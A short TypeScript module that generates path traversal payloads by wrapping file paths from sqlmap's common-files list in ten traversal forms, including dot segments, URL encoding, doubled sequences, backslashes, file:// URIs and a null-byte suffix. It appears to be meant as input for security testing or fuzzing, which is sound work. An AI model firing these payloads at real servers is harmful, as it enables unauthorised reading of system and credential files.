/**
 * Path traversal payloads from sqlmap's list of files it tries to read (`data/txt/common-files.txt`): each
 * path behind one of the traversal forms attackers use (dot segments, encoded or doubled, absolute paths,
 * `file://`).
 */
const FORMS: ReadonlyArray<(path: string) => string> = [
  (p) => `../../../..${p}`,
  (p) => `../../../../../../${p.slice(1)}`,
  (p) => `....//....//....//${p.slice(1)}`,
  (p) => `..%2f..%2f..%2f${p.slice(1).replace(/\//g, '%2f')}`,
  (p) => `%2e%2e/%2e%2e/%2e%2e/${p.slice(1)}`,
  (p) => `..\\..\\..\\${p.slice(1).replace(/\//g, '\\')}`,
  (p) => p,
  (p) => `file://${p}`,
  (p) => `/var/www/html/../../..${p}`,
  (p) => `../../..${p}%00.jpg`,
];

/** The file list's paths (comments and blank lines left out), each in one traversal form in turn. */
export function traversalPayloads(commonFiles: string): string[] {
  const paths = commonFiles
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l.startsWith('/'));
  return paths.map((p, i) => (FORMS[i % FORMS.length] as (path: string) => string)(p));
}
